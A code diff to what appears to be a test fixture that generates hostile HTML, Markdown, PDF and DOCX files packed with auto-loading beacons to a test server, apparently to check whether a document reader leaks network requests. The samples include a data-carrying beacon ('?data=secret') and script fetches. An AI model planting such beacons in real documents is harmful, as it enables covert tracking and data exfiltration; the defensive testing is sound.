@@ -9,8 +9,14 @@ from __future__ import annotations
 import io
 import zipfile
 
-QUESTION = "How many watts does the greenhouse pump of {} draw?"
-FORMATS = ("html", "md", "pdf", "docx", "txt")
+# Format → what its document is about, and the number that answers.
+FACTS = {
+    "html": ("orchard pump", 41),
+    "md": ("harbour crane", 53),
+    "pdf": ("church bell motor", 67),
+    "docx": ("flour mill conveyor", 79),
+    "txt": ("wine cellar fan", 97),
+}
 
 
 def hostile_files(server: str) -> dict[str, bytes]:
@@ -25,13 +31,18 @@ def hostile_files(server: str) -> dict[str, bytes]:
 
 
 def fact(kind: str) -> str:
-    return f"The greenhouse pump of {kind} draws {40 + FORMATS.index(kind)} watts."
+    subject, watts = FACTS[kind]
+    return f"The {subject} draws {watts} watts."
+
+
+def question(kind: str) -> str:
+    return f"How many watts does the {FACTS[kind][0]} draw?"
 
 
 def hostile_html(server: str) -> bytes:
     base = f"{server}/html"
     return f"""<!doctype html><html><head>
-<meta charset="utf-8"><title>Pump manual</title><base href="{base}/">
+<meta charset="utf-8"><title>Manual</title><base href="{base}/">
 <meta http-equiv="refresh" content="0;url={base}/refresh">
 <link rel="stylesheet" href="{base}/style.css"><link rel="preload" as="image" href="{base}/preload">
 <link rel="prefetch" href="{base}/prefetch"><link rel="dns-prefetch" href="//html-dns.example">
@@ -39,7 +50,7 @@ def hostile_html(server: str) -> bytes:
 <style>@import url("{base}/import.css"); @font-face {{ font-family: x; src: url("{base}/font"); }} body {{ background: url("{base}/background"); }}</style>
 <script src="{base}/script.js"></script><script>fetch("{base}/inline-script"); new Image().src = "{base}/inline-image";</script>
 </head><body onload="fetch('{base}/onload')" background="{base}/body-background">
-<h1>Pump manual <img src="{base}/heading-image" onerror="fetch('{base}/onerror')"></h1>
+<h1>Manual <img src="{base}/heading-image" onerror="fetch('{base}/onerror')"></h1>
 <p>{fact("html")} <img src="{base}/image" srcset="{base}/srcset 2x"><a href="{base}/link" ping="{base}/ping" target="_blank">More</a>
 &lt;img src="{base}/escaped"&gt;&lt;script&gt;fetch("{base}/escaped-script")&lt;/script&gt;</p>
 <iframe src="{base}/frame"></iframe><iframe srcdoc="&lt;img src='{base}/srcdoc'&gt;"></iframe>
@@ -55,7 +66,7 @@ def hostile_markdown(server: str) -> bytes:
     return f"""---
 image: {base}/front-matter
 ---
-# Pump notes ![heading]({base}/heading)
+# Notes ![heading]({base}/heading)
 
 {fact("md")} ![beacon]({base}/image?data=secret "title") [![badge]({base}/badge)]({base}/badge-link)
 ![by reference][beacon] <{base}/autolink> {base}/bare-link [text]({base}/link)
@@ -79,7 +90,7 @@ def hostile_text(server: str) -> bytes:
 def hostile_pdf(server: str) -> bytes:
     """Text with a link annotation, an action on opening, one on the page, scripts, a form, and streams kept elsewhere."""
     base = f"{server}/pdf"
-    text = f"BT /F1 11 Tf 60 700 Td ({fact('pdf')}) Tj 0 -20 Td (Visit {base}/text for more about the pump.) Tj ET"
+    text = f"BT /F1 11 Tf 60 700 Td ({fact('pdf')}) Tj 0 -20 Td (Visit {base}/text for more.) Tj ET"
     content = f"{text}\nq 100 0 0 100 60 500 cm /Im1 Do Q".encode()
     return _pdf(
         [
@@ -126,7 +137,7 @@ def hostile_docx(server: str) -> bytes:
     drawing = "http://schemas.openxmlformats.org/drawingml/2006"
     picture = (
         f'<w:drawing><wp:inline xmlns:wp="{drawing}/wordprocessingDrawing"><wp:extent cx="9" cy="9"/>'
-        f'<wp:docPr id="1" name="x" descr="A pump"/><a:graphic xmlns:a="{drawing}/main"><a:graphicData uri="{drawing}/picture">'
+        f'<wp:docPr id="1" name="x" descr="A picture"/><a:graphic xmlns:a="{drawing}/main"><a:graphicData uri="{drawing}/picture">'
         f'<pic:pic xmlns:pic="{drawing}/picture"><pic:blipFill><a:blip r:link="rImage"/></pic:blipFill></pic:pic>'
         "</a:graphicData></a:graphic></wp:inline></w:drawing>"
     )
